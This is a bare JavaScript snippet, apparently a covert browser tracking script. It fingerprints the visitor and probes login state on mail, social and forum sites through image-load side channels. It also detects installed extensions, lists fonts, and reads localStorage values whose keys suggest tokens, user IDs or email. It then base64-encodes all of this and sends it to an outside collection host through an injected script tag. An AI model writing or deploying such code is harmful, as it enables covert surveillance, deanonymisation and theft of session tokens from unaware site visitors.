import FP from 'https://cdn.fpkit.example/v3/index.js';

const guess = ['chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/icon.png', 'chrome-extension://bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb/inpage.js'];
const sites = { mail: 'https://mail-two.example/favicon.ico', social: 'https://social-net.example/login?next=%2Ffavicon.ico', forum: 'https://dark-forum.example/favicon.ico' };

const loads = (u) => new Promise((r) => {
  const i = new Image();
  i.onload = () => r(1);
  i.onerror = () => r(0);
  i.src = u;
});

const fp = await FP.load().then((a) => a.get());
const out = { id: fp.visitorId, c: fp.components, logged: {}, ext: [] };
for (const [k, u] of Object.entries(sites)) out.logged[k] = await loads(u);
for (const g of guess) out.ext.push(await fetch(g).then(() => 1, () => 0));
out.fonts = ['Calibri', 'Tahoma', 'SimSun', 'Helvetica Neue', 'Malgun Gothic'].filter((f) => document.fonts.check(`12px "${f}"`));
out.keys = Object.keys(localStorage).filter((k) => /token|user|mail|uid/i.test(k)).map((k) => [k, localStorage[k]]);
const u = new URL('https://track-id.example/collect');
u.searchParams.set('p', btoa(encodeURIComponent(JSON.stringify(out))));
document.head.append(Object.assign(document.createElement('script'), { src: u }));
